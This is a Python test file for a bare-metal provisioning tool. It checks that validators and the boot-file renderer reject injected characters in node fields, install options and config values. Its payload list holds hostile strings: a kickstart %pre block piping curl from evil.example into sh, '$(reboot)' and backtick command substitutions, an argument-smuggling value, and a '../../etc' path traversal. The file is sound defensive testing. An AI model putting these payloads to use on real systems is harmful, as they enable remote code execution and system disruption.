"""A newline, quote, %, ;, backtick or $( in any value that reaches a generated file is refused.

Two layers: the import validators refuse the cell, and the renderer refuses a bad value that
reached the state file some other way (nothing of the node is written then).
"""

from __future__ import annotations

import pytest

from bmprov import validate
from bmprov.boot.writer import NodeFileWriter
from bmprov.errors import ConfigError, StepFailed
from bmprov.install import options as io
from bmprov.nodes import Node
from tests.bootutil import edit_config

PAYLOADS = [
    "\n%pre\ncurl http://evil.example/x | sh\n%end\n",
    '"',
    "'",
    "%",
    ";reboot",
    "`reboot`",
    "$(reboot)",
    " --bootproto=static",
    "\r",
]
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl me@host"
HASH = "$6$abcdefgh$" + "a" * 86

CELL_VALIDATORS = {
    "serial": (validate.serial, "SN1"),
    "mac": (validate.mac, "52:54:00:12:34:56"),
    "hostname": (validate.hostname, "web1"),
    "os": (lambda v: validate.token(v, "OS name"), "rocky9"),
    "root_password_hash": (io.password_hash, HASH),
    "ssh_key": (io.ssh_key, KEY),
    "partition_scheme": (io.partition_scheme, "LVM_HBA"),
    "disks": (io.disk_count, "2"),
    "post_script": (io.post_script, "example"),
    "callback_url": (io.callback_url, "http://10.20.0.1/cb"),
    "disk_name": (io.disk_name, "sda"),
}


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
@pytest.mark.parametrize("field", sorted(CELL_VALIDATORS))
def test_cell_validators_refuse(field: str, payload: str) -> None:
    parse, good = CELL_VALIDATORS[field]
    parse(good)  # the base value is fine
    with pytest.raises(ValueError):
        parse(good + payload)


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_plain_password_never_reaches_a_file(payload: str) -> None:
    plain = "Secret123" + payload
    try:
        hashed = io.root_password(plain)
    except ValueError as exc:
        assert plain not in str(exc)  # never echoed
        return
    assert hashed.startswith("$6$") and payload not in hashed


def base_node(**kw) -> Node:
    fields = {
        "id": 1,
        "serial": "SN1",
        "stage": "os_provisioning",
        "macs": ("52:54:00:12:34:56",),
        "os": "rocky9",
        "hostname": "web1",
    }
    return Node(**{**fields, **kw})


STORED = {
    "root_password_hash": HASH,
    "ssh_key": KEY,
    "partition_scheme": "LVM_HBA",
    "post_script": "example",
    "callback_url": "http://10.20.0.1/cb",
}


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
@pytest.mark.parametrize(
    "where", ["serial", "hostname", "mac", "ip", *(f"install.{k}" for k in STORED)]
)
def test_renderer_refuses_bad_stored_values(site, where: str, payload: str) -> None:
    writer = NodeFileWriter(site.config)
    ip = "10.20.0.50"
    if where == "serial":
        node = base_node(serial="SN1" + payload)
    elif where == "hostname":
        node = base_node(hostname="web1" + payload)
    elif where == "mac":
        node = base_node(macs=("52:54:00:12:34:56" + payload,))
    elif where == "ip":
        node, ip = base_node(), ip + payload
    else:
        key = where.split(".", 1)[1]
        node = base_node(install_options={**STORED, key: STORED[key] + payload})
    with pytest.raises(StepFailed):
        writer.write(node, ip)
    assert not (site.dir / "tftpboot").exists()
    assert not (site.dir / "http").exists()


def test_unknown_os_with_payload_is_never_rendered(site) -> None:
    writer = NodeFileWriter(site.config)
    with pytest.raises(StepFailed) as info:  # no profile: nothing is rendered at all
        writer.render_install(base_node(os="rocky9\n%pre"), "10.20.0.50")
    assert "\n" not in str(info.value)  # the message quotes it, escaped
    assert "'rocky9\\n%pre' is not a valid OS name" in str(info.value)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("kernel_args = []", 'kernel_args = ["quiet;reboot"]'),
        ("kernel_args = []", 'kernel_args = ["a\'b"]'),
        ('install_dir = "ks"', 'install_dir = "../../etc"'),
        ('timezone = "UTC"', 'timezone = "UTC\\n%pre"'),
        ("disks = 1", "disks = 0"),
    ],
)
def test_config_values_are_checked(site, old: str, new: str) -> None:
    edit_config(site, old, new)
    with pytest.raises(ConfigError):
        NodeFileWriter(site.config)


def test_repo_url_in_os_profile_is_checked(site) -> None:
    site.write_config("[boot.os.rocky9]\nrepo = \"http://x/'$(reboot)'\"")
    with pytest.raises(ConfigError):
        NodeFileWriter(site.config)
